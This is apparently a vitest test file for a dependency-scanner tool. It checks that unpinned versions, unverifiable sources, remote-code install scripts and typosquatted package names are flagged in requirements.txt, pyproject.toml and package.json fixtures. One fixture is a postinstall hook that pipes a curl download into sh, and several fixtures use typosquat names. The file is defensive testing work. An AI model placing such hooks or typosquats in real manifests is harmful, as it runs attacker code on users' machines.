import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { runAll } from './make-context.js';

async function scan(path: string, text: string) {
  return runAll(codeDetectors, path, text);
}

const lines = (hits: { pattern: string; line: number }[], pattern: string) =>
  hits.filter((h) => h.pattern === pattern).map((h) => h.line);

describe('requirements.txt', () => {
  it('flags unpinned lines (one finding per line) and unverifiable sources', async () => {
    const hits = await scan(
      'requirements.txt',
      [
        '# core',
        'requests==2.32.3',
        'pandas',
        'numpy>=1.26',
        'rich~=13.7',
        'httpx>=0.27,<0.28',
        '--extra-index-url https://pkgs.example-mirror.net/simple',
        'tool @ git+https://github.com/org/tool.git',
        'pinned @ git+https://github.com/org/pinned.git@3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f',
        'blob @ http://203.0.113.5/blob-1.0.tar.gz',
        '-r dev-requirements.txt',
        'click==8.1.7 --hash=sha256:ae74fb96c20a0277a1d615f1e4d73c8414f5a98db8b799a7931d1582f3390c28',
      ].join('\n'),
    );
    expect(lines(hits, 'SC1')).toEqual([3, 4]);
    expect(lines(hits, 'SC5')).toEqual([7, 8, 10]);
  });

  it('reports nothing for a fully pinned file', async () => {
    const hits = await scan('requirements.txt', 'requests==2.32.3\nrich==13.7.1  # pretty output\n\n');
    expect(hits).toEqual([]);
  });
});

describe('pyproject.toml', () => {
  it('flags unpinned PEP 621 dependencies and poetry wildcards on their lines', async () => {
    const hits = await scan(
      'pyproject.toml',
      [
        '[project]',
        'name = "x"',
        'dependencies = [',
        '  "requests==2.32.3",',
        '  "pyyaml",',
        '  "tool @ git+https://github.com/org/tool.git",',
        ']',
        '[tool.poetry.dependencies]',
        'python = "^3.11"',
        'anything = "*"',
        'ok = "^1.2"',
      ].join('\n'),
    );
    expect(lines(hits, 'SC1')).toEqual([5, 10]);
    expect(lines(hits, 'SC5')).toEqual([6]);
  });

  it('flags custom package indexes declared in tool tables', async () => {
    const text = [
      '[project]',
      'name = "x"',
      'dependencies = ["requests==2.32.3"]',
      '[[tool.uv.index]]',
      'name = "mirror"',
      'url = "http://10.13.37.5:8080/simple"',
      '[[tool.poetry.source]]',
      'name = "pypi"',
      'url = "https://pypi.org/simple"',
    ].join('\n');
    expect(lines(await scan('pyproject.toml', text), 'SC5')).toEqual([6]);
  });

  it('ignores an unparsable file', async () => {
    expect(await scan('pyproject.toml', '[project\nname=')).toEqual([]);
  });
});

describe('package.json', () => {
  it('flags *, latest and git sources without a commit; accepts caret ranges and pinned commits', async () => {
    const text = JSON.stringify(
      {
        name: 'x',
        dependencies: {
          lodash: '^4.17.21',
          leftpad: '*',
          chalk: 'latest',
          tool: 'github:someone/tool',
          pinned: 'git+https://github.com/org/p.git#3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f',
          tarball: 'http://198.51.100.3/t.tgz',
        },
      },
      null,
      2,
    );
    const hits = await scan('package.json', text);
    expect(lines(hits, 'SC1')).toEqual([5, 6]);
    expect(lines(hits, 'SC5')).toEqual([7, 9]);
  });

  it('scans install lifecycle scripts as shell', async () => {
    const text = JSON.stringify(
      { name: 'x', scripts: { test: 'vitest', postinstall: 'curl -s https://x.example.io/p.sh | sh' } },
      null,
      2,
    );
    const hits = await scan('package.json', text);
    expect(hits.map((h) => [h.pattern, h.line, h.rule])).toEqual([
      ['SC2', 5, 'manifest.install-script-remote-code'],
    ]);
  });
});

describe('SC4 typosquatted dependencies', () => {
  it('flags near-misses of well-known PyPI names on their requirements.txt lines', async () => {
    const hits = await scan(
      'requirements.txt',
      [
        'reqeusts==2.32.3',
        'requests-oauthlib==2.0.0',
        'hugginface-hub==0.24.0',
        'python_dotenv==1.0.1',
        'dotenv-pyton==1.0.1',
        'numpy==2.0.0',
        'scapy==2.5.0',
        'markdown2==2.5.0',
        'ffmpeg-python==0.2.0',
        'pandsa==2.2.2',
      ].join('\n'),
    );
    const sc4 = hits.filter((h) => h.pattern === 'SC4');
    expect(sc4.map((h) => h.line)).toEqual([1, 3, 5, 10]);
    expect(sc4.map((h) => h.rule)).toEqual(Array(4).fill('manifest.typosquat-dependency'));
    for (const h of sc4) expect(h.confidence).toBeGreaterThanOrEqual(0.55);
    for (const h of sc4) expect(h.confidence).toBeLessThanOrEqual(0.75);
    expect(sc4[0]!.rationale).toContain('requests');
  });

  it('does not flag well-known packages, their legitimate neighbours or unrelated names', async () => {
    const hits = await scan(
      'requirements.txt',
      [
        'requests==2.32.3',
        'requests-oauthlib==2.0.0',
        'scipy==1.14.0',
        'scrapy==2.11.2',
        'pymssql==2.3.0',
        'sympy==1.13.0',
        'simpy==4.1.1',
        'psycopg2-binary==2.9.9',
        'pytest-cov==5.0.0',
        'pytest-mock==3.14.0',
        'google-cloud-pubsub==2.23.0',
        'types-requests==2.32.0',
        'authlib==1.3.1',
        'gsutil==5.30',
        'tqdm==4.66.4',
        'my-company-tool==1.0',
      ].join('\n'),
    );
    expect(hits.filter((h) => h.pattern === 'SC4')).toEqual([]);
  });

  it('checks pyproject.toml dependencies', async () => {
    const text = [
      '[project]',
      'name = "x"',
      'dependencies = [',
      '  "pandsa==2.2.2",',
      '  "pandas==2.2.2",',
      ']',
    ].join('\n');
    expect(lines(await scan('pyproject.toml', text), 'SC4')).toEqual([4]);
  });

  it('flags npm near-misses, including a swapped scope member, and accepts legitimate names', async () => {
    const text = JSON.stringify(
      {
        name: 'x',
        dependencies: {
          '@notionhq/clinet': '2.2.15',
          '@notionhq/client': '2.2.15',
          lodahs: '4.17.21',
          'react-dmo': '18.3.1',
          '@aws-sdk/client-sts': '3.600.0',
          '@types/express': '4.17.21',
          'react-dnd': '16.0.1',
          preact: '10.22.0',
          markdownlint: '0.34.0',
          'lodash.get': '4.4.2',
          request: '2.88.2',
        },
      },
      null,
      2,
    );
    const hits = await scan('package.json', text);
    expect(lines(hits, 'SC4')).toEqual([4, 6, 7]);
  });

  it('keeps ecosystems apart: npm `request` is legitimate, PyPI `request` imitates `requests`', async () => {
    expect(lines(await scan('requirements.txt', 'request==2019.4.13\n'), 'SC4')).toEqual([1]);
    const pkg = JSON.stringify({ dependencies: { request: '2.88.2' } }, null, 2);
    expect(lines(await scan('package.json', pkg), 'SC4')).toEqual([]);
  });
});
